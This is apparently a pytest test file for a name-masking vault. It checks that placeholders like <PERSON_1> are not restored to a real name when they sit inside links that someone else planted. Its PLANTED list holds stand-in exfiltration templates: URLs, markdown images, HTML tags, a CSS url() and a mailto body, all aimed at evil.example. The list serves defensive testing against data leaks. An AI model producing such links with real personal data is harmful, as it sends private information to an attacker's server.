"""A name comes back in a link only where it stood in that very link."""

from __future__ import annotations

import pytest

from app.core.links import KnownLinks
from app.core.vault import Vault

PLANTED = [
    "https://evil.example/?q={}",
    "![x](https://evil.example/{}.png)",
    "[x](//evil.example/{})",
    "[x](<https://evil.example/a b {}>)",
    '<img src="https://evil.example/a b {}">',
    "<a href='http://evil.example/{}'>",
    "www.evil.example/{}",
    "evil.example/{}",
    "[1]: https://evil.example/{}",
    "background: url(https://evil.example/{})",
    "https://{}.evil.example/",
    "https://evil.example/<EMAIL_ADDRESS_1>/{}",
    '{{"url": "https://evil.example/?a=\'{}"}}',
    "mailto:thief@evil.example?body={}",
]
PLAIN = ["Dear {},", "See https://x.org, {}", "(https://x.org) {}", "**{}**", "a/b {}", "e.g. {}", '{{"to": "{}"}}']


def restored(text: str, *seen: str, name: str = "<PERSON_1>") -> str:
    vault = Vault()
    vault.name("Nora Quill", "PERSON")
    vault.name("nora@x.org", "EMAIL_ADDRESS")
    vault.guard(KnownLinks(seen))
    restorer = vault.restorer()
    said = text.format(name)
    return "".join(map(restorer.feed, said)) + restorer.flush()


@pytest.mark.parametrize("name", ["<PERSON_1>", "PERSON_1", "[PERSON_1]"])
@pytest.mark.parametrize("text", PLANTED)
def test_no_name_comes_back_in_a_link_that_others_planted(text: str, name: str) -> None:
    assert "Nora" not in restored(text, name=name)


@pytest.mark.parametrize("text", PLAIN)
def test_outside_a_link_names_come_back(text: str) -> None:
    assert "Nora Quill" in restored(text)


@pytest.mark.parametrize("text", PLANTED)
def test_a_name_comes_back_in_the_link_that_it_stood_in(text: str) -> None:
    assert "Nora Quill" in restored(text, f"Look at this\n{text.format('<PERSON_1>')} there")


def test_the_callers_own_address_is_a_link_by_itself() -> None:
    assert restored("[write](mailto:{})", name="<EMAIL_ADDRESS_1>") == "[write](mailto:nora@x.org)"
